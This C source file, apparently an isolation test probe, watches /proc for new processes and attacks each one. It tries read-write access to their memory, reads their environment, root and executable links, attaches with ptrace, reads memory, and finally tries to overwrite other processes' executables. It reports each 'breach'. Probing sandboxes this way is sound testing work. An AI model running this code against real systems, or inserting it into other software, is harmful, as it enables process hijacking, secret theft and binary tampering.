/*
 * An app that lies in wait for whoever enters it: looks for new processes of
 * the pod, and tries each by every way there is to be more than the app.
 * Static.  Prints what it got of a process that is not its own image's.
 *
 *	intruder SECONDS [stay]
 *
 * SIGUSR1 says that it was enough.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define KEPT 64

#define SAID 300 /* lines of a kind: more say no more */

static unsigned long seen, tried, refused, breaches, files;
static int kept[KEPT], n_kept;

static volatile sig_atomic_t over;

static void
on_enough(int number)
{
	(void)number;
	over = 1;
}

static double
now(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Its program, if it lets itself be looked at: NULL, it does not. */
static const char *
program_of(int pid)
{
	static char to[512];
	char path[64];
	ssize_t n;

	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	n = readlink(path, to, sizeof(to) - 1);
	if (n < 0)
		return NULL;
	to[n] = '\0';
	return to;
}

static void
got(const char *what, int pid, const char *of)
{
	if (breaches++ < SAID)
		printf("breach=%s of %d %s\n", what, pid, of);
}

/* What a process of ours has open is ours; what is it? */
static void
files_of(int pid)
{
	char path[64], to[512];

	for (int fd = 0; fd < 16; fd++) {
		ssize_t n;

		(void)snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
		n = readlink(path, to, sizeof(to) - 1);
		if (n <= 0)
			continue;
		to[n] = '\0';
		if (to[0] == '/' && strncmp(to, "/dev/", 5) != 0 &&
		    files++ < SAID)
			printf("file=%d %s\n", fd, to);
	}
}

/* A way to be another process, or to change its program. */
static void
attack(int pid)
{
	char path[64], byte = 0;
	struct iovec here = { &byte, 1 }, there = { (void *)0x400000, 1 };
	static const char *const names[] = { "mem", "exe", "root", "cwd", "environ",
		"maps", "fd/0", "ns/user" };
	const char *program;

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		int fd;

		(void)snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[i]);
		fd = open(path, (i < 1 ? O_RDWR : O_RDONLY) | O_CLOEXEC | O_NONBLOCK);
		tried++;
		program = program_of(pid);
		refused += fd < 0;
		/* By now it may be the command, which is the app's equal. */
		if (fd >= 0 && i == 1 && n_kept < KEPT)
			kept[n_kept++] = fcntl(fd, F_DUPFD_CLOEXEC, 100);
		if (fd >= 0 && program && strncmp(program, "/bin/", 5) != 0 &&
		    program[0] == '/')
			got(names[i], pid, program);
		if (fd >= 0)
			(void)close(fd);
	}
	program = program_of(pid);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		(void)waitpid(pid, NULL, __WALL);
		program = program_of(pid);
		if (program == NULL || strncmp(program, "/bin/", 5) != 0)
			got("ptrace", pid, program ? program : "?");
		(void)ptrace(PTRACE_DETACH, pid, 0, 0);
		(void)kill(pid, SIGCONT);
	}
	if (process_vm_readv(pid, &here, 1, &there, 1, 0) == 1) {
		program = program_of(pid);
		if (program && strncmp(program, "/bin/", 5) != 0)
			got("memory", pid, program);
	}
	files_of(pid);
}

/* The program of another that was open once, for writing now. */
static void
overwrite(void)
{
	char path[64];

	for (int i = 0; i < n_kept; i++) {
		char to[512] = "";
		ssize_t n;
		int fd;

		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
		n = readlink(path, to, sizeof(to) - 1);
		to[n < 0 ? 0 : n] = '\0';
		if (strncmp(to, "/bin/", 5) == 0)
			continue;
		fd = open(path, O_WRONLY | O_CLOEXEC);
		printf("overwrite=%s %s\n", to, fd >= 0 ? "ok" : strerror(errno));
		if (fd >= 0)
			(void)!write(fd, "#!/bin/intruder\n", 16);
		if (fd >= 0)
			(void)close(fd);
	}
}

/* What runs already is not whom it lies in wait for; and who holds up the
 * journal is not heard any more. */
static int
newest(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int pid = 0;

	while (d && (e = readdir(d)) != NULL)
		if (atoi(e->d_name) > pid)
			pid = atoi(e->d_name);
	if (d)
		(void)closedir(d);
	return pid;
}

static void
look(int after)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	while (d && (e = readdir(d)) != NULL) {
		int pid = atoi(e->d_name);

		if (pid > after) {
			seen++;
			attack(pid);
		}
	}
	if (d)
		(void)closedir(d);
}

int
main(int argc, char **argv)
{
	double end = now() + (argc > 1 ? atof(argv[1]) : 1);

	int after = newest();

	setvbuf(stdout, NULL, _IOLBF, 0);
	(void)signal(SIGUSR1, on_enough);
	printf("ready=1\n");
	while (now() < end && !over)
		look(after);
	overwrite();
	printf("seen=%lu\ntried=%lu\nrefused=%lu\ndone=1\n", seen, tried, refused);
	if (argc > 2)
		(void)sleep(600);
	return 0;
}
